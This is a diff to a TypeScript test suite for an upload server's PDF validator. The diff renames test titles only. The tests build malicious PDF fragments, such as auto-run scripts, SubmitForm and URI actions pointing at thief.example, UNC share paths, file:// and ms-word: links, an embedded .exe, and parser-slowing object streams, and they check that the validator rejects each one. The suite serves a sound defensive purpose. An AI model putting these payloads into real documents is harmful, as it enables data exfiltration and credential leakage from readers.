@@ -61,7 +61,7 @@ async function expectRefused(bytes: Buffer, msg: string) {
   expect(query(server, 'SELECT 1 FROM files')).toEqual([])
 }
 
-describe('a PDF that does something automatically', () => {
+describe('the PDF check for active content', () => {
   it.each<[string, Buffer]>([
     ['a script when it is opened', writtenPdf(opens(script))],
     [
@@ -121,11 +121,11 @@ describe('a PDF that does something automatically', () => {
     ['a script behind a comment', writtenPdf('', [`<< % (\r /A ${bare} >>`])],
     ['a form of the XML kind', writtenPdf('/AcroForm << /XFA 10 0 R >>')],
     ['a film with a program', writtenPdf('', ['<< /Subtype /RichMedia >>'])]
-  ])('is refused with %s, at its field', async (_, bytes) => {
+  ])('rejects %s, at the field of the file', async (_, bytes) => {
     await expectRefused(bytes, activeWords)
   })
 
-  it('is refused as other programs write it', async () => {
+  it('rejects an embedded file and a named script written by PDFKit', async () => {
     await expectRefused(
       await written(one => one.file(Buffer.from('MZ'), { name: 'salary.exe' })),
       activeWords
@@ -135,19 +135,19 @@ describe('a PDF that does something automatically', () => {
   })
 })
 
-describe('a PDF that reaches for something else', () => {
+describe('the PDF check for actions that open files or send data', () => {
   it.each([
     ['opens a file of the network', '<< /S /GoToR /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
     ['opens a file in a file', '<< /S /GoToE /F (\\\\\\\\thief\\\\share) /D [0 /Fit] >>'],
     ['sends what was typed in it', '<< /S /SubmitForm /F (https://thief.example) >>'],
     ['takes answers from a file', '<< /S /Import#44ata /F (answers.fdf) >>']
-  ])('is refused where it %s', async (_, action) => {
+  ])('rejects a PDF that %s', async (_, action) => {
     await expectRefused(writtenPdf(opens(action)), reachingWords)
     await expectRefused(within(action), reachingWords)
   })
 })
 
-describe('a PDF that acts when it is opened', () => {
+describe('the PDF check for automatic actions', () => {
   const web = '<< /S /URI /URI (https://thief.example/track) >>'
   const turn = `<< /S /GoTo /D [3 0 R /Fit] /Next ${web} >>`
   const inPage = (words: string) => [`<< /Type /Page ${words} >>`]
@@ -197,23 +197,23 @@ describe('a PDF that acts when it is opened', () => {
       'does something as a field is entered',
       writtenPdf('', [`<< /Subtype /Widget /AA 11 0 R >>`, `<< /Fo ${web} >>`])
     ]
-  ])('is refused where it %s', async (_, bytes) => {
+  ])('rejects a PDF that %s', async (_, bytes) => {
     await expectRefused(bytes, opensWords)
   })
 })
 
-describe('a PDF that plays something', () => {
+describe('the PDF check for media', () => {
   it.each([
     ['a film', '<< /S /Movie /T (film) >>'],
     ['a sound', '<< /S /Sound /Sound 12 0 R >>'],
     ['a view in space', '<< /S /GoTo3DView /TA 12 0 R /V /D >>']
-  ])('is refused with %s', async (_, action) => {
+  ])('rejects an action with %s', async (_, action) => {
     await expectRefused(writtenPdf('', [`<< /Subtype /Link /A ${action} >>`]), playsWords)
     await expectRefused(within(action), playsWords)
   })
 
   it.each(['Movie', 'Sound', 'Screen', '3D', 'Projection', 'Unheard'])(
-    'is refused with %s upon a page',
+    'rejects an annotation of the type %s',
     async type => {
       await expectRefused(
         writtenPdf('', ['<< /Annots 11 0 R >>', '[12 0 R]', `<< /Subtype /${type} >>`]),
@@ -222,12 +222,12 @@ describe('a PDF that plays something', () => {
     }
   )
 
-  it('is refused with a thing in space that runs a program', async () => {
+  it('rejects a 3D object that runs a program', async () => {
     await expectRefused(writtenPdf('', [stream('/Subtype /U3D /OnInstantiate 12 0 R', 'x')]), playsWords)
   })
 })
 
-describe('a PDF that needs another file', () => {
+describe('the PDF check for external files', () => {
   const share = '(\\\\\\\\thief\\\\share\\\\x)'
 
   it.each<[string, string[]]>([
@@ -248,16 +248,16 @@ describe('a PDF that needs another file', () => {
     ['for printing', [`<< /OPI << /2.0 << /F ${share} >> >> >>`]],
     ['by its description', ['<< /Type /Filespec /DOS (x) >>']],
     ['for reading on', [`<< /Subtype /Link /A << /S /Thread /F ${share} /D 0 >> >>`]]
-  ])('is refused where it needs it %s', async (_, objects) => {
+  ])('rejects a PDF that needs another file %s', async (_, objects) => {
     await expectRefused(writtenPdf('', objects), externalWords)
   })
 
-  it('is refused where an object stream says so', async () => {
+  it('rejects a reference to another file in an object stream', async () => {
     await expectRefused(within(`<< /F ${share} >>`), externalWords)
   })
 })
 
-describe('a link in a PDF', () => {
+describe('the PDF check for links', () => {
   const link = (address: string) => `<< /Subtype /Link /A << /S /URI /URI ${address} >> >>`
   const utf16 = (text: string) => `<feff${Buffer.from(text, 'utf16le').swap16().toString('hex')}>`
 
@@ -279,13 +279,13 @@ describe('a link in a PDF', () => {
     ['a file in hexadecimal behind very many line ends', `<${'\n'.repeat(33_000)}66696c653a2f2f2f78>`],
     ['a file behind spaces', '(  \\t file:///x)'],
     ['a mail program with a file', '(ms-word:ofe|u|https://thief.example/x.docx)']
-  ])('is refused to %s', async (_, address) => {
+  ])('rejects a link to %s', async (_, address) => {
     await expectRefused(writtenPdf('', [link(address)]), linksWords)
     await expectRefused(writtenPdf('', [link('11 0 R'), address]), linksWords)
     await expectRefused(within(link(address)), linksWords)
   })
 
-  it('is refused beside a base that is no web page', async () => {
+  it('rejects a base address that is not a web page', async () => {
     await expectRefused(writtenPdf('/URI << /Base (file://thief.example/) >>'), linksWords)
   })
 
@@ -298,12 +298,12 @@ describe('a link in a PDF', () => {
     '(#page=2)',
     '()',
     utf16('https://example.com')
-  ])('is taken to %s', async address => {
+  ])('accepts a link to %s', async address => {
     expect(await uploadGuarantor(ada, 1, writtenPdf('', [link(address)]))).toMatchObject({ status: 200 })
   })
 })
 
-describe('a PDF that cannot be looked into', () => {
+describe('the PDF check of content that cannot be read', () => {
   const packed = zlib.deflateSync(`20 0 ${script}`)
   const dictionary = '/Type /ObjStm /N 1 /First 5'
 
@@ -356,21 +356,21 @@ describe('a PDF that cannot be looked into', () => {
       'with an object written into its dictionary',
       stream(`${dictionary} /X (1 0 obj) /Filter /FlateDecode`, packed)
     ]
-  ])('is refused: an object stream %s', async (_, object) => {
+  ])('rejects an object stream %s', async (_, object) => {
     await expectRefused(writtenPdf('', [object]), unreadableWords)
   })
 
-  it('is refused where references lead to references without end', async () => {
+  it('rejects a long chain of references', async () => {
     const chain = Array.from({ length: 9 }, (_, index) => `${11 + index} 0 R`)
     await expectRefused(writtenPdf(opens('10 0 R'), chain), unreadableWords)
   })
 
-  it('is refused where it is protected, as other programs write it', async () => {
+  it('rejects a password-protected PDF written by PDFKit', async () => {
     const locked = { ownerPassword: 'secret', permissions: {}, pdfVersion: '1.7' } as const
     await expectRefused(await written(one => one.text('I stand surety.'), locked), protectedWords)
   })
 
-  it('takes little more time than another file of its size, however it is made', async () => {
+  it('checks a PDF built to be slow in under 30 times the processor time of a plain PDF', async () => {
     // Processor time, so that other programs do not count.
     const size = byEffort({ quick: 1_600_000, ci: 4_900_000, long: 4_900_000 })
     const upload = async (text: string) => {
@@ -402,7 +402,7 @@ describe('a PDF that cannot be looked into', () => {
   })
 })
 
-describe('a PDF that does nothing automatically', () => {
+describe('the PDF check of harmless files', () => {
   const page = '/Type /Page /Contents 11 0 R'
 
   it.each<[string, () => Buffer | Promise<Buffer>]>([
@@ -518,12 +518,12 @@ describe('a PDF that does nothing automatically', () => {
       'of 5 MB of noise',
       () => Buffer.concat([writtenPdf('').subarray(0, -6), noise(4_900_000), Buffer.from('%%EOF')])
     ]
-  ])('is taken: one %s', async (_, make) => {
+  ])('accepts a PDF %s', async (_, make) => {
     expect(await uploadGuarantor(ada, 1, await make())).toMatchObject({ status: 200 })
   })
 
   const programs = path.join(import.meta.dirname, 'pdf-programs')
-  it.each(fs.readdirSync(programs))('is taken as a program writes it: %s', async name => {
+  it.each(fs.readdirSync(programs))('accepts a PDF written by another program: %s', async name => {
     expect(await uploadGuarantor(ada, 1, fs.readFileSync(path.join(programs, name)))).toMatchObject({
       status: 200
     })
